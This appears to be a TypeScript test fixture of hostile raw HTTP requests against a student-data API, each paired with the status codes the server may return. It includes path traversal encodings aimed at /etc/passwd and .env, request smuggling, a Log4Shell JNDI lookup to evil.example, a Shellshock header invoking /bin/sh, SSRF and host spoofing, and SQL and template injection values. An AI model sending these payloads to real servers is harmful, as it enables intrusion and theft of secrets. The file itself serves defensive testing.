/**
 * Requests that somebody with bad intentions, a scanner or a broken program would send, as the very bytes. Each with the
 * statuses that our answers to it may have; nothing at all is always a good answer to bytes that are no request.
 */
import type { RawRequest } from './raw-exchange.ts';

export interface HostileRequest extends RawRequest {
  readonly title: string;
  /** What an answer may be. */
  readonly allowed: readonly number[];
}

const host = 'localhost';
const student = '/api/insights/1.0/users/0b5c9a2e-5a51-4a61-9d8f-3f6f1f3f2f11';
const window = 'startedAfter=2026-03-09T05:00:00Z&startedBefore=2026-03-16T05:00:00Z';
const overview = `${student}/overview?${window}&targetTimezone=America/Chicago`;
const sessions = `${student}/sessions?limit=100&offset=0`;

interface Parts {
  readonly method?: string;
  readonly host?: string;
  readonly headers?: readonly string[];
  readonly body?: string;
}

/** @param target of the request line, exactly as it is sent */
function toRequest(target: string, parts: Parts = {}): string {
  const { method = 'GET', headers = [], body = '' } = parts;
  return [`${method} ${target} HTTP/1.1`, `Host: ${parts.host ?? host}`, ...headers, '', body].join('\r\n');
}

function toCase(
  title: string,
  allowed: readonly number[],
  ...bytes: readonly (string | Uint8Array)[]
): HostileRequest {
  return { title, allowed, bytes, hangsUp: false };
}

const traversals = [
  '../',
  '..%2f',
  '..%2F',
  '%2e%2e/',
  '%2e%2e%2f',
  '%2E%2E%2F',
  '.%2e/',
  '%2e./',
  '..%5c',
  '..\\',
  '%2e%2e%5c',
  '..%252f',
  '%252e%252e%252f',
  '%252e%252e%255c',
  '..%c0%af',
  '%c0%ae%c0%ae/',
  '..%e0%80%af',
  '..%ef%bc%8f',
  '....//',
  '....\\/',
  '..;/',
  '..%00/',
  '..%0d%0a/',
  './/../',
  '%u002e%u002e/',
].flatMap((step) => {
  const climb = step.repeat(4);
  return [
    toCase(
      `climbs out of the files by ${JSON.stringify(step)}`,
      [400, 404],
      toRequest(`/assets/${climb}secret.txt`),
    ),
    toCase(
      `climbs out of a student's path by ${JSON.stringify(step)}`,
      [400, 404],
      toRequest(`${student}/${climb}secret.txt`),
    ),
  ];
});

const files = [
  '/.env',
  '/.git/config',
  '/package.json',
  '/server/settings.ts',
  '/secret.txt',
  '/assets/.env',
  '/assets',
  '/.vite/manifest.json',
  '/assets/app.js.map',
  '/wp-login.php',
  '/actuator/env',
  '/server-status',
  '/cgi-bin/.%2e/.%2e/bin/sh',
  '/proc/self/environ',
  '/etc/passwd',
  '//etc/passwd',
  '/file:///etc/passwd',
  '/node_modules/hono/package.json',
].map((path) => toCase(`asks for ${path}`, [400, 404], toRequest(path)));

const targets = [
  ['an absolute address of another host', 'http://evil.example/', [400, 421]],
  ['an absolute address of another scheme', 'https://evil.example/api/applications/1.0', [400, 421]],
  ['an absolute address of a file', 'file:///etc/passwd', [400, 421]],
  ['an absolute address of gopher', 'gopher://localhost:25/_HELO', [400, 404, 421]],
  ['an absolute address with a user', 'http://localhost@evil.example/', [400, 421]],
  ['an absolute address of cloud metadata', 'http://169.254.169.254/latest/meta-data/', [400, 421]],
  ['two slashes and a host', '//evil.example/api/applications/1.0', [404]],
  ['a backslash and a host', '/\\evil.example', [400, 404]],
  ['a star', '*', [400]],
  ['no slash', 'api/applications/1.0', [400]],
  ['nothing', '', [400]],
  ['a fragment', '/api/nothing#/../../x', [400, 404]],
  ['a question mark alone', '?', [400]],
  ['an at sign', '@evil.example/', [400]],
  ['a javascript address', 'javascript:alert(1)', [400, 421]],
  ['a tab in the path', '/api\t/x', [400]],
  ['a raw null in the path', '/api/\0', [400]],
  ['raw bytes above ASCII', '/api/\u00ff\u00fe', [400, 404]],
  ['a broken escape', '/api/%zz', [400, 404]],
  ['a lone surrogate', '/students/%ed%a0%80/x/y/z', [400, 404]],
  ['an escaped null', '/api/%00', [400, 404]],
  ['an escaped line end', '/api/%0d%0aSet-Cookie:%20a=b', [400, 404]],
  ['script in the path', '/<script>alert(1)</script>', [400, 404]],
  ['ten thousand dots', `/${'.'.repeat(10_000)}`, [404, 414]],
  ['a path of 5,000 letters', `/${'a'.repeat(5_000)}`, [414]],
  ['a query of 5,000 letters', `/?${'a'.repeat(5_000)}`, [414]],
  ['a path of 20,000 letters', `/${'a'.repeat(20_000)}`, [414, 431]],
  ['3,000 slashes', '/'.repeat(3_000), [404]],
  [
    '1,000 parameters',
    `/api/applications/1.0?${Array.from({ length: 1_000 }, (_, i) => `${i}=`).join('&')}`,
    [400, 414],
  ],
].map(([what, target, allowed]) =>
  toCase(`has as its address ${String(what)}`, [allowed].flat().map(Number), toRequest(String(target))),
);

const otherMethods = [
  'POST',
  'PUT',
  'PATCH',
  'DELETE',
  'OPTIONS',
  'TRACE',
  'PROPFIND',
  'PROPPATCH',
  'MKCOL',
  'COPY',
  'MOVE',
  'LOCK',
  'SEARCH',
  'PURGE',
  'LINK',
  'REPORT',
  'SUBSCRIBE',
  'M-SEARCH',
  'QUERY',
  'get',
  'GETX',
  'TRACK',
  'DEBUG',
  'G\u00cbT',
  'GET\0',
  'CONNECT',
].flatMap((method) => [
  toCase(
    `uses ${JSON.stringify(method)} on student data`,
    [400, 405],
    toRequest(overview, { method, headers: ['Content-Length: 0'] }),
  ),
  toCase(
    `uses ${JSON.stringify(method)} on a page`,
    [400, 405],
    toRequest('/students/a', { method, headers: ['Content-Length: 0'] }),
  ),
]);

const hosts = [
  'evil.example',
  'localhost.evil.example',
  'evil.example:80',
  'localhost@evil.example',
  'localhost, evil.example',
  'localhost evil.example',
  'localhost/evil.example',
  'localhost#evil.example',
  'localhost?evil.example',
  'localhost\\evil.example',
  'localhost:99999',
  'localhost:-1',
  'localhost:80:80',
  '[::1',
  '[::ffff:10.0.0.1]',
  '127.0.0.1.nip.example',
  '0x7f.1',
  '2130706433',
  '0.0.0.0',
  '169.254.169.254',
  '',
  '%6cocalhost',
  'localhost%00.evil.example',
  'l\u00f6calhost',
].map((name) =>
  toCase(`says its host is ${JSON.stringify(name)}`, [400, 421], toRequest(overview, { host: name })),
);

const hostHeaders = [
  toCase('names no host', [400], `GET ${overview} HTTP/1.1\r\n\r\n`),
  toCase('names two hosts, ours first', [400, 421], toRequest(overview, { headers: ['Host: evil.example'] })),
  toCase(
    'names two hosts, ours second',
    [400, 421],
    toRequest(overview, { host: 'evil.example', headers: ['Host: localhost'] }),
  ),
  toCase(
    'hides the host behind a blank',
    [400, 421],
    `GET ${overview} HTTP/1.1\r\nHost : localhost\r\nHost: evil.example\r\n\r\n`,
  ),
  toCase(
    'folds the host over two lines',
    [400, 421],
    `GET ${overview} HTTP/1.1\r\nHost: evil.example\r\n localhost\r\n\r\n`,
  ),
  toCase(
    'names another host than its address',
    [400, 421],
    toRequest('http://localhost/', { host: 'evil.example' }),
  ),
];

/** What is left over of the first request must not be taken for a second one that reaches student data. */
const hidden = `GET ${overview} HTTP/1.1\r\nHost: localhost\r\n\r\n`;
const smuggled = (title: string, headers: readonly string[], body: string) =>
  toCase(
    `smuggles by ${title}`,
    [400, 405, 408, 413, 501],
    toRequest('/students/a', { method: 'POST', headers, body }),
  );

const smuggling = [
  smuggled(
    'a length and a coding',
    ['Content-Length: 4', 'Transfer-Encoding: chunked'],
    `0\r\n\r\n${hidden}`,
  ),
  smuggled(
    'a coding and a length',
    ['Transfer-Encoding: chunked', 'Content-Length: 4'],
    `0\r\n\r\n${hidden}`,
  ),
  smuggled('two lengths', ['Content-Length: 0', 'Content-Length: 44'], hidden),
  smuggled('two lengths in one', ['Content-Length: 0, 44'], hidden),
  smuggled('a length with a sign', ['Content-Length: +0'], hidden),
  smuggled('a negative length', ['Content-Length: -1'], hidden),
  smuggled('a length in hex', ['Content-Length: 0x10'], hidden),
  smuggled('a length with a blank', ['Content-Length: 4 4'], hidden),
  smuggled('a length beyond all numbers', ['Content-Length: 99999999999999999999'], hidden),
  smuggled('an empty length', ['Content-Length:'], hidden),
  smuggled('a length of letters', ['Content-Length: zero'], hidden),
  smuggled('a blank before the colon', ['Content-Length : 0', 'Transfer-Encoding : chunked'], hidden),
  smuggled('a coding nobody knows', ['Transfer-Encoding: xchunked'], hidden),
  smuggled(
    'two codings',
    ['Transfer-Encoding: chunked', 'Transfer-Encoding: identity'],
    `0\r\n\r\n${hidden}`,
  ),
  smuggled('a coding in two', ['Transfer-Encoding: identity, chunked', 'Content-Length: 4'], hidden),
  smuggled('chunked not last', ['Transfer-Encoding: chunked, identity'], `0\r\n\r\n${hidden}`),
  smuggled('a vertical tab in the coding', ['Transfer-Encoding: \vchunked'], hidden),
  smuggled('a folded coding', ['Transfer-Encoding:', ' chunked'], `0\r\n\r\n${hidden}`),
  smuggled('a chunk size with a sign', ['Transfer-Encoding: chunked'], `+0\r\n\r\n${hidden}`),
  smuggled(
    'a chunk size beyond all numbers',
    ['Transfer-Encoding: chunked'],
    `fffffffffffffffff\r\n${hidden}`,
  ),
  smuggled('a chunk size of letters', ['Transfer-Encoding: chunked'], `zz\r\n${hidden}`),
  smuggled(
    'a chunk longer than its size',
    ['Transfer-Encoding: chunked'],
    `1\r\nabcdef\r\n0\r\n\r\n${hidden}`,
  ),
  smuggled('a bare line feed after a chunk size', ['Transfer-Encoding: chunked'], `0\n\n${hidden}`),
  smuggled('a line end in a chunk extension', ['Transfer-Encoding: chunked'], `0;a="\n"\r\n\r\n${hidden}`),
  smuggled(
    'a length among the trailers',
    ['Transfer-Encoding: chunked', 'Connection: close'],
    `0\r\nContent-Length: 44\r\n\r\n${hidden}`,
  ),
  smuggled('a line end in a header', ['X: a\rTransfer-Encoding: chunked', 'Content-Length: 0'], hidden),
  smuggled('bare line feeds', ['X: a\nContent-Length: 44', 'Connection: close'], hidden),
  smuggled('a null in a header', ['X: a\0b'], hidden),
];

const headerOddities = [
  ['a header without a name', [': a'], [400]],
  ['a header without a colon', ['nothing'], [400]],
  ['a name with a blank', ['a b: c'], [400]],
  ['a name with brackets', ['a(b): c'], [400]],
  ['a value with a control character', ['a: \u0001'], [400]],
  ['a value with bytes above ASCII', ['Accept-Language: \u00ff\u00fe'], [404]],
  ['300 headers', Array.from({ length: 300 }, (_, i) => `x-${i}: a`), [404, 431]],
  ['3,000 headers', Array.from({ length: 3_000 }, (_, i) => `x-${i}: a`), [404, 431]],
  ['a header of 20,000 letters', [`x: ${'a'.repeat(20_000)}`], [431]],
  ['a cookie of 15,000 letters', [`Cookie: ${'a=b; '.repeat(3_000)}`], [404]],
  ['an expectation nobody knows', ['Expect: 200-maybe'], [404, 417]],
  [
    'an upgrade to a web socket',
    [
      'Connection: Upgrade',
      'Upgrade: websocket',
      'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
      'Sec-WebSocket-Version: 13',
    ],
    [404],
  ],
  [
    'an upgrade to HTTP/2',
    ['Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA'],
    [404],
  ],
  ['another method in a header', ['X-HTTP-Method-Override: DELETE'], [404]],
  ['another address in a header', [`X-Original-URL: ${overview}`, `X-Rewrite-URL: ${overview}`], [404]],
  ['another host in a header', ['X-Forwarded-Host: evil.example', 'Forwarded: host=evil.example'], [404]],
  ['a platform token of its own', ['Authorization: Bearer stolen'], [404]],
  ['a format string', ['User-Agent: ${jndi:ldap://evil.example/a}'], [404]],
  ['a shell function', ['User-Agent: () { :;}; /bin/sh'], [404]],
  ['a thousand codings to choose from', [`Accept-Encoding: ${'gzip;q=0.1,'.repeat(1_000)}`], [404]],
  ['a thousand priorities', [`Priority: ${'u=1,'.repeat(1_000)}`], [404]],
  ['a range of many parts', [`Range: bytes=${'0-1,'.repeat(500)}`], [404]],
  ['hop-by-hop headers of its choice', ['Connection: close, Host, Content-Length'], [404]],
].map(([what, headers, allowed]) =>
  toCase(
    `sends ${String(what)}`,
    [allowed ?? []].flat().map(Number),
    toRequest('/api/nothing', { headers: [headers ?? []].flat().map(String) }),
  ),
);

const parameters = [
  ['a parameter twice', '&startedAfter=2026-03-09T05:00:00Z'],
  ['a parameter twice, once encoded', '&started%41fter=2026-03-09T05:00:00Z'],
  ['a parameter as a list', '&targetTimezone[]=UTC'],
  ['a parameter as a map', '&targetTimezone[$ne]=UTC'],
  ['a parameter nobody knows', '&filter=role=teacher'],
  ['fields of its choice', '&fields=password'],
  ['the prototype', '&__proto__=1'],
  ['the constructor', '&constructor=1'],
  ['the prototype as a map', '&__proto__[admin]=1'],
  ['an empty name', '&=1'],
  ['a name with a line end', '&a%0d%0ab=1'],
  ['a semicolon for an ampersand', ';startedAfter=2026-03-09T05:00:00Z'],
  ['a null in a value', '%00'],
  ['a path in a value', '/../../etc/passwd'],
  ['SQL in a value', '%27%20OR%201=1--'],
  ['a template in a value', '{{7*7}}'],
].map(([what, more]) => toCase(`asks with ${String(what)}`, [400], toRequest(`${overview}${String(more)}`)));

const values = [
  '/api/applications/1.0?limit=0',
  '/api/applications/1.0?limit=-1',
  '/api/applications/1.0?limit=1e9',
  '/api/applications/1.0?limit=99999999999999999999',
  '/api/applications/1.0?limit=NaN',
  '/api/applications/1.0?limit=%EF%BC%91',
  '/api/applications/1.0?offset=-1',
  '/api/applications/1.0?limit=10%26fields=password',
  `${student}/overview?${window}`,
  `${student}/overview?${window}&targetTimezone=..%2f..%2fetc`,
  `${student}/overview?startedAfter=yesterday&startedBefore=today&targetTimezone=UTC`,
  `${student}/overview?startedAfter=+275760-09-13T00:00:00.001Z&startedBefore=2026-03-16T05:00:00Z&targetTimezone=UTC`,
].map((target) => toCase(`asks for ${target.replace(student, '…')}`, [400], toRequest(target)));

const ids = [
  '%2e',
  '%2e%2e',
  '..%2fusers',
  'a%2fb',
  'a%5cb',
  'a%25b',
  'a%252fb',
  'a%00b',
  'a%0ab',
  'a%7fb',
  'a%c2%85b',
  '%ed%a0%80',
  '%ff',
  'a'.repeat(129),
].map((id) =>
  toCase(
    `names a student ${JSON.stringify(id.slice(0, 20))}`,
    [400, 404],
    toRequest(`/api/insights/1.0/users/${id}/sessions?limit=100&offset=0`),
  ),
);

const notOurs = [
  '/api/',
  '/api',
  '/api/insights/1.0/users',
  '/api/insights/1.0/types',
  '/api/rostering/1.0/demographics',
  '/api/auth/1.0/token',
  '/api/events/1.0/',
  '/api//insights/1.0/users/a/sessions',
  '/API/applications/1.0',
  '/api/applications/1.0/',
  '/api/applications/1.0/x',
  '/api/applications/1.0%2f',
  '/api/applications%2f1.0',
  '/api/applications/1.0;x=1',
  '/api/applications/1.0%00',
].map((path) => toCase(`asks the interface for ${path}`, [404], toRequest(path)));

const crossSite = [
  ['cross-site', ['Sec-Fetch-Site: cross-site', 'Origin: https://evil.example']],
  ['same-site', ['Sec-Fetch-Site: same-site', 'Origin: http://evil.localhost']],
  [
    'cross-site without cors',
    ['Sec-Fetch-Site: cross-site', 'Sec-Fetch-Mode: no-cors', 'Sec-Fetch-Dest: script'],
  ],
  ['cross-site as an image', ['Sec-Fetch-Site: cross-site', 'Sec-Fetch-Dest: image']],
].flatMap(([how, headers]) => [
  toCase(
    `asks for student data ${String(how)}`,
    [403],
    toRequest(overview, { headers: [headers ?? []].flat() }),
  ),
  toCase(`asks for sessions ${String(how)}`, [403], toRequest(sessions, { headers: [headers ?? []].flat() })),
  toCase(
    `sends a report ${String(how)}`,
    [403],
    toRequest('/csp-reports', {
      method: 'POST',
      headers: [...[headers ?? []].flat(), 'Content-Length: 2'],
      body: '{}',
    }),
  ),
]);

const bodies = [
  toCase(
    'announces a gigabyte',
    [413],
    toRequest('/csp-reports', { method: 'POST', headers: ['Content-Length: 1073741824'], body: 'a' }),
  ),
  toCase(
    'announces a gigabyte and waits to be asked for it',
    [100, 413],
    toRequest('/csp-reports', {
      method: 'POST',
      headers: ['Content-Length: 1073741824', 'Expect: 100-continue'],
    }),
  ),
  toCase(
    'sends 200,000 letters in chunks',
    [413],
    toRequest('/csp-reports', {
      method: 'POST',
      headers: ['Transfer-Encoding: chunked'],
      body: `30d40\r\n${'a'.repeat(200_000)}\r\n0\r\n\r\n`,
    }),
  ),
  toCase(
    'sends a report that is no JSON',
    [400],
    toRequest('/csp-reports', {
      method: 'POST',
      headers: ['Content-Length: 4', 'Connection: close'],
      body: '{{{{',
    }),
  ),
  toCase(
    'sends a report that is a list',
    [400],
    toRequest('/csp-reports', {
      method: 'POST',
      headers: ['Content-Length: 2', 'Connection: close'],
      body: '[]',
    }),
  ),
  toCase(
    'sends a report with the prototype',
    [400],
    toRequest('/csp-reports', {
      method: 'POST',
      headers: ['Content-Length: 28', 'Connection: close'],
      body: '{"__proto__":{"admin":true}}',
    }),
  ),
  toCase(
    'sends 8,000 brackets',
    [400],
    toRequest('/csp-reports', {
      method: 'POST',
      headers: ['Content-Length: 8000', 'Connection: close'],
      body: '['.repeat(8_000),
    }),
  ),
  toCase(
    'reads with a body',
    [404],
    toRequest('/api/nothing', { headers: ['Content-Length: 5'], body: 'hello' }),
  ),
  toCase(
    'uploads a file',
    [405],
    toRequest('/', {
      method: 'POST',
      headers: ['Content-Type: multipart/form-data; boundary=x', 'Content-Length: 5', 'Connection: close'],
      body: '--x--',
    }),
  ),
];

const noHttp = [
  toCase('sends nothing', [408]),
  toCase('sends a line end', [408], '\r\n'),
  toCase(
    'sends a TLS greeting',
    [400],
    Uint8Array.from([0x16, 0x03, 0x01, 0x00, 0xa5, 0x01, 0x00, 0x00, 0xa1, 0x03, 0x03]),
  ),
  toCase('sends the greeting of HTTP/2', [400, 505], 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  toCase('sends SSH', [400], 'SSH-2.0-OpenSSH_9.6\r\n'),
  toCase('sends mail', [400], 'EHLO evil.example\r\nMAIL FROM:<a@evil.example>\r\n'),
  toCase('sends redis', [400], '*1\r\n$4\r\nINFO\r\n'),
  toCase('sends zeros', [400], new Uint8Array(1_000)),
  toCase('sends a proxy line', [400], `PROXY TCP4 10.0.0.1 10.0.0.2 1 2\r\n${toRequest('/')}`),
  toCase('sends HTTP/0.9', [400, 408], 'GET /\r\n'),
  toCase('sends HTTP/3.0', [400, 505], 'GET / HTTP/3.0\r\nHost: localhost\r\n\r\n'),
  toCase('sends HTTP/1.2', [400, 505], 'GET / HTTP/1.2\r\nHost: localhost\r\n\r\n'),
  toCase('sends a lower-case version', [400], 'GET / http/1.1\r\nHost: localhost\r\n\r\n'),
  toCase('sends a request line of 100,000 letters', [400, 431], 'A'.repeat(100_000)),
];

const slow = [
  toCase('never ends its request line', [408], 'GET /api/appl'),
  toCase('never ends its headers', [408], 'GET / HTTP/1.1\r\nHost: localhost\r\nX-a: '),
  toCase(
    'never ends its body',
    [405, 408],
    toRequest('/', { method: 'POST', headers: ['Content-Length: 100'], body: 'a' }),
  ),
  toCase(
    'never ends its report',
    [408],
    toRequest('/csp-reports', { method: 'POST', headers: ['Content-Length: 100'], body: '{' }),
  ),
  toCase(
    'never ends a chunk of its report',
    [408],
    toRequest('/csp-reports', { method: 'POST', headers: ['Transfer-Encoding: chunked'], body: 'ff\r\na' }),
  ),
];

const hangUps = [
  ['before a word', ''],
  ['in its request line', 'GET /api'],
  ['in its headers', 'GET / HTTP/1.1\r\nHost: local'],
  ['after its headers', toRequest('/')],
  [
    'in its report',
    toRequest('/csp-reports', { method: 'POST', headers: ['Content-Length: 100'], body: '{' }),
  ],
].map(([when, bytes = '']) => ({
  title: `hangs up ${String(when)}`,
  allowed: [200],
  bytes: [bytes],
  hangsUp: true,
}));

const pipelined = [
  toCase('asks a hundred times at once', [404], toRequest('/api/nothing').repeat(100)),
  toCase(
    'asks a second time for another host',
    [404, 421],
    toRequest('/api/nothing'),
    toRequest(overview, { host: 'evil.example' }),
  ),
  toCase('asks a second time with garbage', [404, 400], toRequest('/api/nothing'), '\0\0\0\0'),
];

export const hostileRequests: readonly HostileRequest[] = [
  ...traversals,
  ...files,
  ...targets,
  ...otherMethods,
  ...hosts,
  ...hostHeaders,
  ...smuggling,
  ...headerOddities,
  ...parameters,
  ...values,
  ...ids,
  ...notOurs,
  ...crossSite,
  ...bodies,
  ...noHttp,
  ...slow,
  ...hangUps,
  ...pipelined,
];
